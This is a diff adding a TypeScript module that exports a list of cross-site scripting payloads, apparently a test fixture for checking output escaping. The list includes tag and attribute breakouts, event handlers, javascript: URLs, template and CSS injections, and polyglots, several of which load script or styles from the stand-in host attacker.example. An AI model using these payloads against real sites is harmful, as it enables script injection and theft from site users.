@@ -1,0 +1,62 @@
+/**
+ * Texts that run a script if a page does not write them as texts. The page may write them as HTML, as an attribute, as a URL, or into a
+ * script. Each script sets `__hit`, opens a dialog, or calls another host.
+ */
+export const scriptStrings: readonly string[] = [
+  // Leaves a tag, an attribute, a comment, or an element whose content is text.
+  '<script>__hit=1</script>',
+  '"><script>__hit=1</script>',
+  '\'"></title></style></textarea></noscript></script><script>__hit=1</script>',
+  '</script><script>__hit=1</script>',
+  '--><script>__hit=1</script><!--',
+  ']]><script>__hit=1</script>',
+  '<ScRiPt\n>__hit=1</sCrIpT\t>',
+  '<scr<script>ipt>__hit=1</scr</script>ipt>',
+  '<script src="//attacker.example/a.js"></script>',
+  '<base href="//attacker.example/">',
+  '<meta http-equiv="refresh" content="0;url=//attacker.example/">',
+  '<link rel="stylesheet" href="//attacker.example/a.css">',
+  '<style>@import "//attacker.example/a.css";</style>',
+  // Runs by an event of an element.
+  '<img src=x onerror=__hit=1>',
+  '"><img src=x onerror="__hit=1"><"',
+  "'><img src=x onerror='__hit=1'>",
+  '<img src="//attacker.example/pixel.gif">',
+  '<svg/onload=__hit=1>',
+  '<svg><animate onbegin=__hit=1 attributeName=x dur=1s>',
+  '<body onload=__hit=1>',
+  '<details open ontoggle=__hit=1>',
+  '<input autofocus onfocus=__hit=1>',
+  '<video><source onerror=__hit=1></video>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=__hit=1>',
+  '" onfocus="__hit=1" autofocus x="',
+  "' onmouseover='__hit=1' x='",
+  '`onmouseover=__hit=1 x=`',
+  // Runs by a URL, or in a frame.
+  'javascript:__hit=1',
+  'JaVaScRiPt:alert(1)',
+  ' \u0001javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'javascript://%0a__hit=1//',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  '//attacker.example/x',
+  '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
+  '<iframe src="javascript:parent.__hit=1"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<a href="javascript:__hit=1" id="root">here</a>',
+  '<form action="javascript:__hit=1"><button autofocus>x</button></form>',
+  // Leaves a literal of a script, a template, or a style.
+  "';__hit=1;//",
+  '";__hit=1;//',
+  '\\";__hit=1;//',
+  '${__hit=1}',
+  '`${__hit=1}`',
+  '{{constructor.constructor("__hit=1")()}}',
+  '</style><style>*{background:url(//attacker.example/x)}</style>',
+  'red;background:url(//attacker.example/x)',
+  // Works in many places at once.
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */onerror=__hit=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__hit=1//>\\x3e',
+  '\'">><marquee><img src=x onerror=__hit=1></marquee>"></plaintext\\></|\\><plaintext/onmouseover=__hit=1>',
+  '\u2028<script>__hit=1</script>\u202e>tpircs/<',
+];
